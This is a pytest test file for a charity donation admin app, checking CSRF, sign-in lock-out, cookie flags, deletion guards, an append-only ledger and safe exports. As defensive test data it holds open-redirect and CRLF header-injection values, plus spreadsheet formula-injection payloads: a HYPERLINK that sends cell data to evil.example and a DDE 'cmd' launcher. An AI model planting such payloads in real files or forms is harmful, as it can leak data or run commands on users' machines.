"""The admin's defences over HTTP: CSRF on every write, sign-in (one message, lock-out, cookie flags),
deletion refused where money is attached, an append-only ledger, and spreadsheet-safe exports."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from urllib.parse import urlsplit

import openpyxl
import pytest
from werkzeug.security import check_password_hash, generate_password_hash

from db import donations, settlement, workflow
from db.models import (
    AuditLog,
    Donation,
    Entry,
    ImportRun,
    Project,
    ProjectReview,
    Role,
    User,
    Village,
)
from db.users import MAX_FAILED_LOGINS, SIGN_IN_FAILED

from .admin_support import csrf_token, login, login_token
from .factories import Chain, advance_to, donate, new_project

PASSWORD = "right-password-1"


def set_password(person: User, password: str = PASSWORD) -> None:
    User.update(password_hash=generate_password_hash(password, method="pbkdf2:sha256:1000"),
                failed_logins=0, locked_until=None).where(User.id == person.id).execute()


def try_login(client, username: str, password: str):
    return client.post("/login", data={"username": username, "password": password, "csrf_token": login_token(client)})


def alert(response) -> str:
    found = re.findall(r'role="alert">([^<]*)</div>', response.get_data(as_text=True))
    return " ".join(found)


def signed_in(client) -> bool:
    response = client.get("/admin/")
    return response.status_code == 200


def flashes(client, url: str) -> str:
    return client.get(url).get_data(as_text=True)


# -- CSRF -------------------------------------------------------------------------------------------

@pytest.fixture
def fundraising(db):
    chain = Chain()
    project = advance_to(new_project(chain, name="甲地路灯项目"), "fundraising", chain)
    gift = donate(project, 50_000)
    return chain, project, gift


def state_of_everything():
    return (
        {p.id: (p.state, p.urgent, p.summary) for p in Project.select()},
        {v.id: (v.address, v.admission_state) for v in Village.select()},
        Entry.select().count(), ProjectReview.select().count(), Donation.select().count(), ImportRun.select().count(),
    )


BAD_TOKENS = {"missing": None, "wrong": "IjAwMDAwMDAwIg.AAAAAA.forged-token-value", "empty": ""}


@pytest.mark.parametrize("bad", BAD_TOKENS)
def test_posts_without_a_valid_csrf_token_are_rejected_and_change_nothing(app, fundraising, bad):
    chain, project, gift = fundraising
    draft = new_project(chain, chain.add_village(), name="可删除的草稿")
    client = app.test_client()
    real = login(client, chain.users[Role.REGION])
    token = BAD_TOKENS[bad]

    def with_token(data: dict) -> dict:
        return data if token is None else {**data, "csrf_token": token}

    before = state_of_everything()
    posts = [
        (f"/admin/workflow/project/{project.id}/step", {"action": "reach_target", "opinion": "伪造"}),
        ("/admin/project/ajax/update/", {"list_form_pk": str(project.id), "urgent": "1"}),
        ("/admin/village/ajax/update/", {"list_form_pk": str(chain.village.id), "address": "伪造地址"}),
        ("/admin/donation/action/", {"action": "refund", "rowid": str(gift.id), "reason": "伪造"}),
        ("/admin/project/delete/", {"id": str(draft.id)}),
        (f"/admin/project/edit/?id={draft.id}", {"name": "伪造", "summary": "伪造"}),
        (f"/admin/workflow/entry/{gift.entries.get().id}/reverse", {"reason": "伪造"}),
    ]
    for url, data in posts:
        response = client.post(url, data=with_token(data))
        assert response.status_code == 400, url
    csv_file = f"交易号,项目编号,捐赠人,金额,捐赠时间,公开姓名,留言\r\nCSRF-1,{project.code},张三,10,2024-04-01 10:00:00,是,\r\n"
    response = client.post("/admin/imports/preview", data=with_token(
        {"kind": "donations", "file": (io.BytesIO(csv_file.encode()), "捐赠.csv")}), content_type="multipart/form-data")
    assert response.status_code == 400
    assert state_of_everything() == before
    assert Project.get_or_none(Project.id == draft.id) is not None
    # With the real token, the same kind of post goes through (so the 400s above are the CSRF check).
    response = client.post("/admin/village/ajax/update/",
                           data={"list_form_pk": str(chain.village.id), "address": "真实地址", "csrf_token": real})
    assert response.status_code == 200 and Village.get_by_id(chain.village.id).address == "真实地址"


@pytest.mark.parametrize("bad", BAD_TOKENS)
def test_login_without_a_valid_csrf_token_is_rejected(app, db, bad):
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = app.test_client()
    client.get("/login")
    data = {"username": person.username, "password": PASSWORD}
    if BAD_TOKENS[bad] is not None:
        data["csrf_token"] = BAD_TOKENS[bad]
    response = client.post("/login", data=data)
    assert response.status_code == 400
    assert not signed_in(client)
    assert not AuditLog.select().where((AuditLog.user == person.id) & (AuditLog.action == "login")).exists()


def test_a_token_from_another_session_is_rejected(app, fundraising):
    chain, project, _ = fundraising
    stranger = app.test_client()
    foreign = login(stranger, chain.users[Role.COUNTY])
    client = app.test_client()
    login(client, chain.users[Role.REGION])
    response = client.post(f"/admin/workflow/project/{project.id}/step",
                           data={"action": "reach_target", "csrf_token": foreign})
    assert response.status_code == 400
    assert Project.get_by_id(project.id).state == "fundraising"


# -- signing in ---------------------------------------------------------------------------------------

def test_wrong_password_and_unknown_user_get_the_same_message(app, db):
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = app.test_client()
    wrong = try_login(client, person.username, "not-the-password")
    unknown = try_login(client, "no-such-user", "not-the-password")
    assert wrong.status_code == unknown.status_code == 200
    assert alert(wrong) == alert(unknown) == SIGN_IN_FAILED
    assert person.username not in alert(wrong)
    assert not signed_in(client)


def test_five_failures_lock_the_account_even_for_the_right_password(app, db):
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = app.test_client()
    for attempt in range(1, MAX_FAILED_LOGINS + 1):
        response = try_login(client, person.username, f"wrong-{attempt}")
        assert alert(response) == SIGN_IN_FAILED, attempt
    locked = User.get_by_id(person.id)
    assert locked.locked_until is not None
    response = try_login(client, person.username, PASSWORD)
    assert response.status_code == 200
    assert "锁定" in alert(response)
    assert not signed_in(client)
    assert AuditLog.select().where((AuditLog.user == person.id) & (AuditLog.action == "login_failed")).count() == 5
    assert not AuditLog.select().where((AuditLog.user == person.id) & (AuditLog.action == "login")).exists()


def test_four_failures_do_not_lock(app, db):
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = app.test_client()
    for _ in range(MAX_FAILED_LOGINS - 1):
        try_login(client, person.username, "wrong")
    assert User.get_by_id(person.id).failed_logins == MAX_FAILED_LOGINS - 1
    response = try_login(client, person.username, PASSWORD)
    assert response.status_code == 302
    assert signed_in(client)


def test_a_successful_login_resets_the_failure_count(app, db):
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = app.test_client()
    for _ in range(MAX_FAILED_LOGINS - 1):
        try_login(client, person.username, "wrong")
    assert try_login(client, person.username, PASSWORD).status_code == 302
    assert User.get_by_id(person.id).failed_logins == 0
    client.post("/logout", data={"csrf_token": login_token(client)})
    other = app.test_client()
    for _ in range(MAX_FAILED_LOGINS - 1):
        try_login(other, person.username, "wrong")
    # Four more failures after the reset: still not locked.
    assert User.get_by_id(person.id).locked_until is None
    assert try_login(other, person.username, PASSWORD).status_code == 302


def test_a_deactivated_account_cannot_sign_in(app, db):
    person = Chain().users[Role.COUNTY]
    set_password(person)
    User.update(active=False).where(User.id == person.id).execute()
    client = app.test_client()
    response = try_login(client, person.username, PASSWORD)
    assert response.status_code == 200 and alert(response) == SIGN_IN_FAILED  # nothing said about the account
    assert not signed_in(client)


def test_session_cookie_is_httponly_and_samesite_lax(app, db):
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = app.test_client()
    response = try_login(client, person.username, PASSWORD)
    assert response.status_code == 302
    cookies = [c for c in response.headers.getlist("Set-Cookie") if c.startswith(app.config["SESSION_COOKIE_NAME"] + "=")]
    assert cookies, response.headers
    flags = [part.strip().lower() for part in cookies[-1].split(";")]
    assert "httponly" in flags
    assert "samesite=lax" in flags


@pytest.mark.parametrize("target", ["//evil.example/x", "https://evil.example/", "/\\evil.example", "/%09/evil.example",
                                    "/%0d%0aSet-Cookie:x=1", "/%5Cevil.example", "/\t/evil.example"])
def test_login_does_not_redirect_off_site(app, db, target):
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = app.test_client()
    token = login_token(client)
    response = client.post(f"/login?next={target}", data={"username": person.username, "password": PASSWORD,
                                                          "csrf_token": token})
    assert response.status_code == 302
    location = response.headers["Location"]
    parts = urlsplit(location)
    assert parts.scheme == "" and parts.netloc == "", location
    assert location.startswith("/") and not location.startswith("//") and "\\" not in location, location
    assert not any(ord(c) < 32 for c in location), location


def test_the_icon_is_served_to_anyone(app, db):
    response = app.test_client().get("/favicon.ico")
    data = response.get_data()
    response.close()
    assert response.status_code == 200 and data[:4] == b"\x00\x00\x01\x00"


def test_logout_needs_a_post_with_token(app, db):
    person = Chain().users[Role.COUNTY]
    client = app.test_client()
    token = login(client, person)
    assert client.get("/logout").status_code == 405
    assert client.post("/logout").status_code == 400
    assert signed_in(client)
    assert client.post("/logout", data={"csrf_token": token}).status_code == 302
    assert not signed_in(client)


@pytest.mark.parametrize("page", ["/admin/", "/admin/donation/", "/admin/workflow/todo"])
def test_every_page_names_who_is_signed_in_and_signs_out(app, db, page):
    chain = Chain()
    person = chain.users[Role.TOWNSHIP]
    User.update(display_name="王晓梅").where(User.id == person.id).execute()
    client = app.test_client()
    login(client, person)
    html = client.get(page).get_data(as_text=True)
    who = re.search(r'<span class="navbar-text[^"]*">([^<]*)</span>', html)
    assert who is not None and who.group(1).split(" · ") == ["王晓梅", "乡镇/街道", person.area.name]
    form = re.search(r'<form method="post" action="/logout"[^>]*>(.*?)</form>', html, re.S)
    assert form is not None and "退出登录" in form.group(1)
    assert client.post("/logout", data={"csrf_token": csrf_token(form.group(0))}).status_code == 302
    assert not signed_in(client)


def test_a_password_reset_in_the_users_grid_takes_effect(app, db):
    """The admin's 新密码 field must change the stored hash (and the old password must stop working)."""
    chain = Chain()
    person = chain.users[Role.COUNTY]
    set_password(person, "old-password-1")
    admin = app.test_client()
    token = login(admin, chain.users[Role.ADMIN])
    response = admin.post(f"/admin/users/edit/?id={person.id}", data={
        "display_name": "新名字", "unit": person.unit, "active": "y", "password": "brand-new-pass", "csrf_token": token})
    assert response.status_code == 302
    stored = User.get_by_id(person.id)
    assert stored.display_name == "新名字"
    assert check_password_hash(stored.password_hash, "brand-new-pass"), "the new password was not stored"
    assert not check_password_hash(stored.password_hash, "old-password-1")


# -- deletion ---------------------------------------------------------------------------------------

def delete(client, token, endpoint, row_id):
    response = client.post(f"/admin/{endpoint}/delete/", data={"id": str(row_id), "csrf_token": token})
    assert response.status_code == 302
    return client.get(response.headers["Location"]).get_data(as_text=True)


def test_a_project_with_donations_cannot_be_deleted(app, fundraising):
    chain, project, gift = fundraising
    client = app.test_client()
    token = login(client, chain.users[Role.COUNTY])
    page = delete(client, token, "project", project.id)
    assert "删除失败" in page and "不能删除" in page
    assert Project.get_or_none(Project.id == project.id) is not None
    assert Donation.get_or_none(Donation.id == gift.id) is not None
    assert Entry.select().where(Entry.project == project.id).count() == 1


def test_a_village_with_a_project_cannot_be_deleted(app, db):
    chain = Chain()
    village = chain.add_village()
    new_project(chain, village, name="草稿")
    client = app.test_client()
    token = login(client, chain.users[Role.COUNTY])
    page = delete(client, token, "village", village.id)
    assert "删除失败" in page and "该村社已有项目，不能删除" in page
    assert Village.get_or_none(Village.id == village.id) is not None
    assert Project.select().where(Project.village == village.id).count() == 1


def test_a_submitted_project_without_money_cannot_be_deleted(app, db):
    chain = Chain()
    project = advance_to(new_project(chain), "county_review", chain)
    client = app.test_client()
    token = login(client, chain.users[Role.COUNTY])
    page = delete(client, token, "project", project.id)
    assert "不能删除" in page
    assert Project.get_or_none(Project.id == project.id) is not None


def test_a_draft_project_without_money_can_be_deleted(app, db):
    chain = Chain()
    draft = new_project(chain, name="作废的草稿")
    client = app.test_client()
    token = login(client, chain.users[Role.COUNTY])
    page = delete(client, token, "project", draft.id)
    assert "删除失败" not in page
    assert Project.get_or_none(Project.id == draft.id) is None
    assert AuditLog.select().where((AuditLog.table == "project") & (AuditLog.action == "delete")
                                   & (AuditLog.object_id == str(draft.id))).exists()


def test_deleting_another_areas_draft_is_refused(app, db):
    mine, theirs = Chain("150121"), Chain("150122")
    draft = new_project(theirs, name="乙地草稿")
    client = app.test_client()
    token = login(client, mine.users[Role.COUNTY])
    page = delete(client, token, "project", draft.id)
    assert "记录不存在" in page
    assert Project.get_or_none(Project.id == draft.id) is not None


# -- the ledger is append-only over HTTP ------------------------------------------------------------

@pytest.fixture
def booked(db):
    chain = Chain()
    project = advance_to(new_project(chain), "fundraising", chain)
    gift = donate(project, 12_345)
    return chain, project, gift, gift.entries.get()


def entry_rows():
    return [(e.id, e.kind, e.amount, e.from_account_id, e.to_account_id, e.reverses_id, e.reason, e.memo)
            for e in Entry.select().order_by(Entry.id)]


@pytest.mark.parametrize("role", [Role.COUNTY, Role.REGION, Role.ADMIN])
def test_ledger_entries_cannot_be_edited_or_deleted_over_http(app, booked, role):
    chain, _, _, entry = booked
    client = app.test_client()
    token = login(client, chain.users[role])
    before = entry_rows()
    assert client.get(f"/admin/entry/details/?id={entry.id}").status_code == 200
    response = client.get(f"/admin/entry/edit/?id={entry.id}")
    assert response.status_code == 302
    response = client.post(f"/admin/entry/edit/?id={entry.id}", data={"amount": "1.00", "memo": "改", "csrf_token": token})
    assert response.status_code == 302
    response = client.post("/admin/entry/delete/", data={"id": str(entry.id), "csrf_token": token})
    assert response.status_code == 302
    response = client.get("/admin/entry/new/")
    assert response.status_code == 302
    response = client.post("/admin/entry/new/", data={"kind": "donation", "amount": "1.00", "csrf_token": token})
    assert response.status_code == 302
    response = client.post("/admin/entry/ajax/update/", data={"list_form_pk": str(entry.id), "amount": "1",
                                                             "memo": "改", "csrf_token": token})
    assert response.status_code == 404
    response = client.post("/admin/entry/action/", data={"action": "delete", "rowid": str(entry.id),
                                                        "csrf_token": token})
    assert response.status_code == 302
    assert entry_rows() == before
    listing = client.get("/admin/entry/").get_data(as_text=True)
    assert "/admin/entry/edit/" not in listing and "/admin/entry/delete/" not in listing


def test_a_reversal_needs_a_reason_and_then_posts_an_opposite_entry(app, booked):
    chain, project, gift, entry = booked
    client = app.test_client()
    token = login(client, chain.users[Role.COUNTY])
    details = client.get(f"/admin/entry/details/?id={entry.id}").get_data(as_text=True)
    assert f"/admin/workflow/entry/{entry.id}/reverse" in details
    before = entry_rows()
    for reason in ("", "   "):
        response = client.post(f"/admin/workflow/entry/{entry.id}/reverse", data={"reason": reason, "csrf_token": token})
        assert response.status_code == 302
        assert "冲正必须填写原因" in flashes(client, response.headers["Location"])
        assert entry_rows() == before
    response = client.post(f"/admin/workflow/entry/{entry.id}/reverse",
                           data={"reason": "重复入账", "csrf_token": token})
    assert response.status_code == 302 and response.headers["Location"] == f"/admin/workflow/project/{project.id}"
    assert "已冲正" in flashes(client, response.headers["Location"])
    reversal = Entry.get(Entry.reverses == entry.id)
    assert (reversal.kind, reversal.amount, reversal.reason) == ("donation", entry.amount, "重复入账")
    assert (reversal.from_account_id, reversal.to_account_id) == (entry.to_account_id, entry.from_account_id)
    assert entry_rows()[:len(before)] == before, "the original entry changed"
    # Only once.
    response = client.post(f"/admin/workflow/entry/{entry.id}/reverse", data={"reason": "再次", "csrf_token": token})
    assert "不能重复冲正" in flashes(client, response.headers["Location"])
    assert Entry.select().where(Entry.reverses == entry.id).count() == 1


@pytest.mark.parametrize("role, status, message", [(Role.TOWNSHIP, 403, None), (Role.VILLAGE, 302, "只有慈善总会")])
def test_village_and_township_cannot_reverse_a_donation_entry(app, booked, role, status, message):
    chain, _, _, entry = booked
    client = app.test_client()
    token = login(client, chain.users[role])
    before = entry_rows()
    response = client.post(f"/admin/workflow/entry/{entry.id}/reverse", data={"reason": "想冲正", "csrf_token": token})
    assert response.status_code == status
    if message:
        assert message in flashes(client, response.headers["Location"])
    assert entry_rows() == before


# -- exports and money ------------------------------------------------------------------------------

HOSTILE = {
    "F-EQ": ('=HYPERLINK("http://evil.example/?q="&A1,"点我")', "@SUM(A1)"),
    "F-PLUS": ("+cmd|' /C calc'!A0", "-2+3"),
    "F-TAB": ("\t=1+1", "\t@SUM(A1)"),
}


@pytest.fixture
def hostile(db):
    chain = Chain()
    project = advance_to(new_project(chain, name="=项目名称公式()"), "fundraising", chain)
    rows = {}
    for txn, (donor, message) in HOSTILE.items():
        gift = Donation.create(project=project, txn_no=txn, donor_name=donor, message=message, amount=123_456,
                               donated_at=dt.datetime(2024, 4, 2, 9, 30), name_consent="full")
        donations.receive_donation(gift)
        rows[txn] = gift
    plain = Donation.create(project=project, txn_no="PLAIN-1", donor_name="王芳", message="-5", amount=5,
                            donated_at=dt.datetime(2024, 4, 3, 9, 30))
    donations.receive_donation(plain)
    return chain, project


def export_rows(client, endpoint, kind):
    response = client.get(f"/admin/{endpoint}/export/{kind}/")
    assert response.status_code == 200
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        return [dict(zip(rows[0], r)) for r in rows[1:]], None
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, r)) for r in sheet.iter_rows(min_row=2)]
    book.close()
    return [{k: c.value for k, c in r.items()} for r in rows], rows


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_neutralise_formula_cells(app, hostile, kind):
    chain, project = hostile
    client = app.test_client()
    login(client, chain.users[Role.COUNTY])
    values, cells = export_rows(client, "donation", kind)
    by_txn = {r["交易号"]: r for r in values}
    for txn, (donor, message) in HOSTILE.items():
        assert by_txn[txn]["捐赠人"] == "'" + donor, txn
        assert by_txn[txn]["留言"] == "'" + message, txn
    # A plain negative number is a number, not a formula: left alone.
    assert by_txn["PLAIN-1"]["留言"] == "-5"
    projects, _ = export_rows(client, "project", kind)
    assert [r["名称"] for r in projects] == ["'=项目名称公式()"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_names_of_related_rows_in_exports_are_neutralised_too(app, hostile, kind):
    """A village user names the project; the donation, entry, expenditure and disclosure exports show that
    name in their 项目 column, so it must be neutralised there as well (and never become an XLSX formula)."""
    chain, project = hostile
    client = app.test_client()
    login(client, chain.users[Role.COUNTY])
    for endpoint in ("donation", "entry"):
        values, cells = export_rows(client, endpoint, kind)
        named = [r["项目"] for r in values if r["项目"]]
        assert named and set(named) == {"'=项目名称公式()"}, (endpoint, set(named))
        if cells is not None:
            formulas = [c.coordinate for r in cells for c in r.values() if c.data_type == "f"]
            assert not formulas, (endpoint, formulas)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_money_exports_as_plain_yuan(app, hostile, kind):
    chain, project = hostile
    client = app.test_client()
    login(client, chain.users[Role.COUNTY])
    values, _ = export_rows(client, "donation", kind)
    by_txn = {r["交易号"]: r for r in values}
    assert str(by_txn["F-EQ"]["金额"]) == "1234.56"
    assert str(by_txn["PLAIN-1"]["金额"]) == "0.05"
    projects, _ = export_rows(client, "project", kind)
    assert str(projects[0]["善款募集目标"]) == "10000.00"
    entries, _ = export_rows(client, "entry", kind)
    assert "1234.56" in {str(r["金额"]) for r in entries}
    plain = re.compile(r"\d+\.\d{2}")
    for rows, column in ((values, "金额"), (projects, "善款募集目标"), (entries, "金额")):
        for row in rows:
            assert plain.fullmatch(str(row[column])), (column, row[column])


def test_money_in_the_lists_is_shown_in_yuan(app, hostile):
    chain, project = hostile
    client = app.test_client()
    login(client, chain.users[Role.COUNTY])
    donations = client.get("/admin/donation/").get_data(as_text=True)
    assert "1,234.56 元" in donations and "0.05 元" in donations
    assert "123456" not in donations
    assert "10,000.00 元" in client.get("/admin/project/").get_data(as_text=True)
    assert "1,234.56 元" in client.get("/admin/entry/").get_data(as_text=True)
    # Hostile text is shown escaped.
    assert '=HYPERLINK("http' not in donations
    assert "=HYPERLINK(&#34;http://evil.example/?q=&#34;&amp;A1" in donations


@pytest.mark.parametrize("password, words", [("short-9ch", "至少 10 位"), ("12345678901", "全是数字"),
                                             ("my-county-user-1", "用户名")])
def test_a_password_must_be_long_not_only_digits_and_not_the_name(db, password, words):
    from db.errors import XfjyError
    from db.users import create_user

    with pytest.raises(XfjyError, match=words):
        create_user("county-user", password, "county", "150121")


def test_a_new_password_signs_out_every_old_session(app, db):
    from db.users import set_password as reset

    person = Chain().users[Role.COUNTY]
    client = app.test_client()
    login(client, person)
    assert client.get("/admin/").status_code == 200
    reset(User.get_by_id(person.id), "a-new-password-2026", by=None)
    response = client.get("/admin/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


# -- records of decisions are kept; other areas' rows are not found (issue 12, items 18 and 19) --------

def test_a_village_with_admission_steps_cannot_be_deleted(app, db):
    from db import workflow as flows
    from db.models import AdmissionStep

    chain = Chain()
    village = chain.add_village(established=False)
    flows.advance_village(village, "apply", chain.actor(5, village))
    client = app.test_client()
    token = login(client, chain.users[Role.COUNTY])
    page = delete(client, token, "village", village.id)
    assert "入选审核记录" in page and Village.get_or_none(Village.id == village.id) is not None
    assert AdmissionStep.select().where(AdmissionStep.village == village.id).count() == 1


def test_the_evaluation_of_a_closed_project_cannot_be_deleted(app, db):
    import datetime as dt

    from db.models import Evaluation

    chain = Chain()
    project = advance_to(new_project(chain), "implementing", chain)
    workflow.advance_project(project, "request_acceptance", chain.users[Role.VILLAGE])
    workflow.advance_project(Project.get_by_id(project.id), "approve", chain.users[Role.COUNTY], "验收合格",
                             settle=settlement.settle_remaining)
    evaluation = Evaluation.create(project=project, evaluated_on=dt.date(2024, 12, 1), result="good", score=88)
    client = app.test_client()
    token = login(client, chain.users[Role.COUNTY])
    page = delete(client, token, "evaluation", evaluation.id)
    assert "不能删除" in page and Evaluation.get_or_none(Evaluation.id == evaluation.id) is not None


def test_an_inline_edit_of_another_areas_row_is_not_found(app, db):
    mine, theirs = Chain("150121"), Chain("150122")
    client = app.test_client()
    token = login(client, mine.users[Role.COUNTY])
    response = client.post("/admin/village/ajax/update/", data={"list_form_pk": theirs.village.id, "address": "x",
                                                                 "csrf_token": token})
    assert response.status_code == 404 and "不在您的管辖范围内" in response.get_data(as_text=True)
    response = client.post("/admin/village/ajax/update/", data={"list_form_pk": "abc", "address": "x",
                                                                 "csrf_token": token})
    assert response.status_code == 404
    response = client.post("/admin/village/ajax/update/", data={"list_form_pk": mine.village.id, "address": "新地址",
                                                                 "csrf_token": token})
    assert response.status_code == 200 and Village.get_by_id(mine.village.id).address == "新地址"


def test_sign_ins_from_one_address_are_rate_limited(db, tmp_path, monkeypatch):
    from admin import create_app

    monkeypatch.setenv("XFJY_INSTANCE", str(tmp_path / "instance"))
    limited = create_app({"TESTING": True, "DATABASE_KEEP_BOUND": True, "SECRET_KEY": "test",
                          "LOGIN_RATE_LIMIT": "3/minute"})
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = limited.test_client()
    answers = [try_login(client, person.username, "wrong").status_code for _ in range(3)]
    response = try_login(client, person.username, PASSWORD)
    assert answers == [200, 200, 200] and response.status_code == 429
    assert "登录尝试过于频繁" in response.get_data(as_text=True) and not signed_in(client)
    other = limited.test_client()
    other.environ_base["REMOTE_ADDR"] = "10.0.0.9"  # another address is not limited
    assert try_login(other, person.username, PASSWORD).status_code == 302


def test_every_response_carries_the_security_headers(app, db):
    response = app.test_client().get("/login")
    csp = response.headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert re.search(r"script-src 'self' 'nonce-[^']+'", csp)
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"


def test_over_https_the_session_cookie_is_secure_and_http_is_sent_to_https(db, tmp_path, monkeypatch):
    from admin import create_app

    monkeypatch.setenv("XFJY_INSTANCE", str(tmp_path / "instance"))
    secure = create_app({"TESTING": True, "DATABASE_KEEP_BOUND": True, "SECRET_KEY": "test", "HTTPS": True})
    person = Chain().users[Role.COUNTY]
    set_password(person)
    client = secure.test_client()
    assert client.get("/login", base_url="http://admin.example").status_code in (301, 302)
    page = client.get("/login", base_url="https://admin.example").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    response = client.post("/login", base_url="https://admin.example", headers={"Referer": "https://admin.example/login"},
                           data={"username": person.username, "password": PASSWORD, "csrf_token": token})
    assert response.status_code == 302
    cookie = [c for c in response.headers.getlist("Set-Cookie") if c.startswith("session=")][-1]
    assert "secure" in [part.strip().lower() for part in cookie.split(";")]
    assert "max-age" in response.headers.get("Strict-Transport-Security", "")


def test_an_edit_made_on_a_stale_form_is_refused_naming_who_changed_the_row(app, db):
    """Issue 12, item 4: two people open the same village; the second save would undo the first."""
    chain = Chain()
    village = chain.village
    first, second = app.test_client(), app.test_client()
    tokens = [login(first, chain.users[Role.COUNTY]), login(second, chain.users[Role.TOWNSHIP])]
    url = f"/admin/village/edit/?id={village.id}"
    forms = []
    for client in (first, second):
        page = client.get(url).get_data(as_text=True)
        forms.append(re.search(r'name="row_version" type="hidden" value="(\d+)"', page).group(1))
    assert forms[0] == forms[1]

    def save(client, token, seen, address):
        return client.post(url, data={"csrf_token": token, "row_version": seen, "full_name": village.full_name,
                                      "kind": village.kind, "address": address, "leader_name": "王建国",
                                      "leader_phone": "", "batch": str(village.batch_id), "area": str(village.area_id)},
                           follow_redirects=True).get_data(as_text=True)

    save(first, tokens[0], forms[0], "第一个人的地址")
    assert Village.get_by_id(village.id).address == "第一个人的地址"
    page = save(second, tokens[1], forms[1], "第二个人的地址")
    assert f"该记录已由 {chain.users[Role.COUNTY].username} 于" in page
    assert Village.get_by_id(village.id).address == "第一个人的地址"
